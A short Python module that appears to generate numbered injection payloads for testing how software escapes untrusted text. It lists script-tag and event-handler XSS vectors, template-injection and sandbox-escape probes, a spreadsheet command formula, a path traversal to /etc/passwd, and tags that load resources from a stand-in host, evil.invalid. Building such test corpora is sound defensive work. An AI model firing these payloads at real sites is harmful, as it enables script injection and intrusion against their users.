"""Three hundred texts that try to run as a script, break out of where they stand, or call for something from outside."""

from __future__ import annotations

import itertools

_WHOLE = [
    "<script>alert({n})</script>", "</script><script>alert({n})</script>", "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=http://evil.invalid/{n}.js></script>", "<img src=x onerror=alert({n})>", "<img src=http://evil.invalid/{n}.png>",
    "<svg onload=alert({n})>", "<svg><script>alert({n})</script></svg>", "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>", "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<a href=javascript:alert({n})>click</a>", "javascript:alert({n})", "<math href=javascript:alert({n})>x</math>",
    "<details open ontoggle=alert({n})>", "<input autofocus onfocus=alert({n})>", "<video><source onerror=alert({n})></video>",
    "<object data=http://evil.invalid/{n}>", "<embed src=http://evil.invalid/{n}>", "<link rel=stylesheet href=http://evil.invalid/{n}.css>",
    "<style>@import url(http://evil.invalid/{n}.css);</style>", "<style>body{{background:url(http://evil.invalid/{n})}}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/{n}'>", "<base href=http://evil.invalid/{n}/>", "<form action=http://evil.invalid/{n}><input type=submit>",
    "{{{{ {n} * 7 }}}}", "{{% for x in [].__class__.__mro__ %}}{n}{{% endfor %}}", "${{alert({n})}}", "#{{{n}}}", "<%= {n} %>",
    "<!--{n}", "--><script>alert({n})</script>", "<![CDATA[<script>alert({n})</script>]]>", "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;", "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "%3Cscript%3Ealert({n})%3C/script%3E",
    "\u202escript{n}\u202c", "a\u2028alert({n})\u2029b", "=cmd|' /C calc'!A{n}", "__proto__{n}", "constructor{n}", "../../../etc/passwd{n}", "{n}\\", "'{n}\"",
]  # fmt: skip
_OUT_OF = [
    '">',
    "'>",
    "`>",
    '" ',
    "' ",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "]]>",
    "\\'>",
    '"}}]}}',
    "</text></svg>",
    "</a>",
    "</button></form>",
    "</td></tr></table>",
    "</dd></dl>",
    "</mark></div>",
    "</option></select>",
    "<!--><",
    "</rect></svg>",
    "\n\n",
]
_THEN = [
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>", "onmouseover=alert({n}) x=",
    "autofocus onfocus=alert({n}) x=", "style=animation-name:x onanimationstart=alert({n}) x=", ";alert({n})//", "<iframe/src=//evil.invalid/{n}>",
    "<link rel=prefetch href=//evil.invalid/{n}>", "<a/href=javascript&colon;alert({n})>x</a>", "<img srcset=//evil.invalid/{n}>", "<x onclick=alert({n})>x",
]  # fmt: skip


def payloads(most: int = 200) -> list[str]:
    """The first of them, each with a number of its own."""
    mixed = (out + then for out, then in itertools.product(_OUT_OF, _THEN))
    return [text.format(n=n) for n, text in enumerate(itertools.islice(itertools.chain(_WHOLE, mixed), most))]
